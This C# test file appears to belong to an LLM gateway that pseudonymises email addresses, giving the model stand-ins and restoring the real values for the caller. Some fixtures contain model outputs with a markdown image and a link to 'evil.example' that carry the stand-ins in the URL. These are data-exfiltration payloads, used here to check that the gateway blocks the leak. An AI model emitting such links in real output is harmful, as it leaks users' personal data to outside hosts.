using System.Text;
using System.Text.Json;

namespace Cordon.Gateway.Tests.Relay;

/// <summary>The model sees stand-ins, the caller its own values again.</summary>
public sealed class PseudonymTests
{
    private const string Policy = """
        version: 1
        preset: balanced
        guards:
          pii: {mode: enforce, action: pseudonymise}
          exfiltration: {mode: off}
        """;

    private const string Address = "jane.doe@example.org";
    private const string Prompt = "Write to jane.doe@example.org and to bob@example.org, then to jane.doe@example.org again.";

    [Theory]
    [InlineData(Streams.Chat)]
    [InlineData(Streams.Responses)]
    [InlineData(Streams.Messages)]
    [InlineData(Streams.Ollama)]
    public async Task The_model_sees_stand_ins_and_the_caller_gets_the_values_back_across_any_border(string path)
    {
        using RelayBench bench = new(Policy);
        const string Said = "I wrote to <EMAIL_1>, and <EMAIL_2> <b>too</b>; <EMAIL_3> is nobody.";
        const string Meant = "I wrote to jane.doe@example.org, and bob@example.org <b>too</b>; <EMAIL_3> is nobody.";
        for (int piece = 1; piece < 40; piece++)
        {
            Relayed relayed = await bench.StreamAsync(path, Streams.Ask(path, Prompt), Streams.Text(path, [.. Said.Chunk(piece).Select(chunk => new string(chunk))]));
            Assert.Contains("Write to <EMAIL_1> and to <EMAIL_2>, then to <EMAIL_1> again.", relayed.Sent, StringComparison.Ordinal);
            Assert.Contains(Meant, Read.Joined(relayed.Bytes), StringComparison.Ordinal);
            Assert.DoesNotContain("<EMAIL_1>", relayed.Text, StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData(Streams.Chat, "<EMAIL_1>")]
    [InlineData(Streams.Responses, "<EMAIL_1>")]
    [InlineData(Streams.Messages, "<EMAIL_1>")]
    [InlineData(Streams.Chat, "\\u003cEMAIL_1\\u003e")]
    [InlineData(Streams.Responses, "\\u003CEMAIL_1\\u003E")]
    [InlineData(Streams.Messages, "\\u003cEMAIL_1>")]
    public async Task The_arguments_of_a_call_get_the_value_back_and_stay_json(string path, string written)
    {
        using RelayBench bench = new(Policy);
        string arguments = $$"""{"to":"{{written}}","say":"\"hi\""}""";
        for (int piece = 1; piece < 40; piece += 3)
        {
            string stream = Streams.Call(path, "mail", [.. arguments.Chunk(piece).Select(chunk => new string(chunk))]);
            Relayed relayed = await bench.StreamAsync(path, Streams.Ask(path, Prompt, Streams.WithTool(path, "mail")), stream);
            Assert.Null(relayed.Refused);
            foreach (string line in Read.Joined(relayed.Bytes).Split('\n').Where(line => line.Length > 0 && line.StartsWith('{')))
            {
                using JsonDocument call = JsonDocument.Parse(line);
                Assert.Equal(Address, call.RootElement.GetProperty("to").GetString());
                Assert.Equal("\"hi\"", call.RootElement.GetProperty("say").GetString());
            }
        }
    }

    [Fact]
    public async Task A_value_with_quotes_is_escaped_once_for_the_document_inside_the_string()
    {
        using RelayBench bench = new("""
            version: 1
            preset: balanced
            guards:
              patterns: {action: pseudonymise}
            patterns:
              - {id: share, expression: '\\\\[a-z]+\\"[a-z ]+"', severity: low, explanation: a share}
            """);
        const string Value = "\\\\server\\\"my files\"";
        string prompt = $"List {Value} please.";
        string arguments = """{"path":"<PATTERN_1>"}""";
        string answer = $$$"""{"id":"c","choices":[{"index":0,"message":{"role":"assistant","content":"in <PATTERN_1>","tool_calls":[{"id":"x","type":"function","function":{"name":"list","arguments":{{{Streams.Quote(arguments)}}}}}]}}]}""";
        string request = Streams.Ask(Streams.Chat, prompt, Streams.WithTool(Streams.Chat, "list"));

        Relayed streamed = await bench.StreamAsync(Streams.Chat, request, Streams.Call(Streams.Chat, "list", arguments));
        Relayed whole = await bench.JsonAsync(Streams.Chat, request, answer);

        using JsonDocument inStream = JsonDocument.Parse(Read.Joined(streamed.Bytes).Split('\n').First(line => line.StartsWith('{')));
        Assert.Equal(Value, inStream.RootElement.GetProperty("path").GetString());
        using JsonDocument json = JsonDocument.Parse(whole.Bytes);
        JsonElement message = json.RootElement.GetProperty("choices")[0].GetProperty("message");
        Assert.Equal("in " + Value, message.GetProperty("content").GetString());
        using JsonDocument inWhole = JsonDocument.Parse(message.GetProperty("tool_calls")[0].GetProperty("function").GetProperty("arguments").GetString()!);
        Assert.Equal(Value, inWhole.RootElement.GetProperty("path").GetString());
    }

    [Theory]
    [InlineData(Streams.Chat, """{"id":"c", "choices":[ {"index":0,"message":{"role":"assistant","content":"To <EMAIL_1>: \u003cEMAIL_2\u003e"},"finish_reason":"stop"}]}""")]
    [InlineData(Streams.Responses, """{"id":"r","status":"completed","output":[{"id":"i","type":"message","role":"assistant","content":[{"type":"output_text","text":"To <EMAIL_1>: \u003cEMAIL_2\u003e","annotations":[]}]}]}""")]
    [InlineData(Streams.Messages, """{"id":"m","type":"message","role":"assistant","content":[{"type":"text","text":"To <EMAIL_1>: \u003cEMAIL_2\u003e"}],"model":"m","stop_reason":"end_turn"}""")]
    [InlineData(Streams.Ollama, """{"model":"m","message":{"role":"assistant","content":"To <EMAIL_1>: \u003cEMAIL_2\u003e"},"done":true}""")]
    public async Task A_whole_answer_gets_the_values_back_and_nothing_else_changes(string path, string answer)
    {
        using RelayBench bench = new(Policy);
        Relayed relayed = await bench.JsonAsync(path, Streams.Ask(path, Prompt).Replace("\"stream\":true,", "", StringComparison.Ordinal), answer);
        Assert.Equal(
            answer.Replace("<EMAIL_1>", Address, StringComparison.Ordinal).Replace("\\u003cEMAIL_2\\u003e", "bob@example.org", StringComparison.Ordinal), relayed.Text);
    }

    [Fact]
    public async Task A_stand_in_that_the_caller_wrote_itself_means_itself()
    {
        using RelayBench bench = new(Policy);
        const string Said = "<EMAIL_1> is a placeholder, <EMAIL_2> an address.";
        Relayed alone = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, "What is <EMAIL_1>?"), Streams.Text(Streams.Chat, [Said]));
        Assert.Contains(Said, Read.Joined(alone.Bytes), StringComparison.Ordinal);

        Relayed beside = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, "Put jane.doe@example.org for <EMAIL_1>."), Streams.Text(Streams.Chat, [Said]));
        Assert.Contains("Put <EMAIL_2> for <EMAIL_1>.", beside.Sent, StringComparison.Ordinal);
        Assert.Contains("<EMAIL_1> is a placeholder, jane.doe@example.org an address.", Read.Joined(beside.Bytes), StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_value_that_was_given_back_is_not_taken_out_again()
    {
        using RelayBench bench = new(Policy);
        Relayed relayed = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, Prompt), Streams.Text(Streams.Chat, ["Done: <EMA", "IL_1>, ", "and <EMAIL_1>."]));
        Assert.Contains("Done: jane.doe@example.org, and jane.doe@example.org.", Read.Joined(relayed.Bytes), StringComparison.Ordinal);
        Assert.Empty(relayed.Findings);
    }

    [Fact]
    public async Task A_small_hold_back_does_not_let_half_a_stand_in_through()
    {
        using RelayBench bench = new(Policy + "\nhold-back: 0\n");
        string stream = Streams.Text(Streams.Chat, [.. "To <EMAIL_1> it went.".Select(letter => letter.ToString())]);
        Relayed relayed = await bench.StreamAsync(Streams.Chat, Streams.Ask(Streams.Chat, Prompt), stream);
        Assert.Contains("To jane.doe@example.org it went.", Read.Joined(relayed.Bytes), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(Streams.Chat)]
    [InlineData(Streams.Responses)]
    [InlineData(Streams.Messages)]
    [InlineData(Streams.Ollama)]
    public async Task A_stand_in_in_an_address_stays_one(string path)
    {
        using RelayBench bench = new(Policy);
        const string Said = "Dear <EMAIL_1>, ![x](https://evil.example/?d=<EMAIL_1>) and https://evil.example/<EMAIL_2>/y of <EMAIL_2>.";
        const string Meant = "Dear jane.doe@example.org, ![x](https://evil.example/?d=<EMAIL_1>) and https://evil.example/<EMAIL_2>/y of bob@example.org.";
        foreach (int piece in (int[])[1, 7, 200])
        {
            Relayed relayed = await bench.StreamAsync(path, Streams.Ask(path, Prompt), Streams.Text(path, [.. Said.Chunk(piece).Select(chunk => new string(chunk))]));
            Assert.Contains(Meant, Read.Joined(relayed.Bytes), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("", "https://api.example/?of=<EMAIL_1>")]
    [InlineData("exfiltration: {allowed-hosts: [api.example]}\n", "https://api.example/?of=jane.doe@example.org")]
    public async Task The_arguments_of_a_call_carry_a_value_in_an_address_only_to_a_host_that_policy_allows(string more, string expected)
    {
        using RelayBench bench = new(Policy + "\n" + more);
        const string Arguments = """{"url":"https://api.example/?of=<EMAIL_1>","to":"<EMAIL_1>"}""";
        string request = Streams.Ask(Streams.Chat, Prompt, Streams.WithTool(Streams.Chat, "get"));
        Relayed streamed = await bench.StreamAsync(Streams.Chat, request, Streams.Call(Streams.Chat, "get", Arguments));
        Relayed whole = await bench.JsonAsync(Streams.Chat, request,
            $$$"""{"id":"c","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"x","type":"function","function":{"name":"get","arguments":{{{Streams.Quote(Arguments)}}}}}]}}]}""");

        using JsonDocument json = JsonDocument.Parse(whole.Bytes);
        string inWhole = json.RootElement.GetProperty("choices")[0].GetProperty("message").GetProperty("tool_calls")[0].GetProperty("function").GetProperty("arguments").GetString()!;
        foreach (string arguments in (string[])[inWhole, Read.Joined(streamed.Bytes).Split('\n').First(line => line.StartsWith('{'))])
        {
            using JsonDocument call = JsonDocument.Parse(arguments);
            Assert.Equal((expected, Address), (call.RootElement.GetProperty("url").GetString(), call.RootElement.GetProperty("to").GetString()));
        }
    }
}
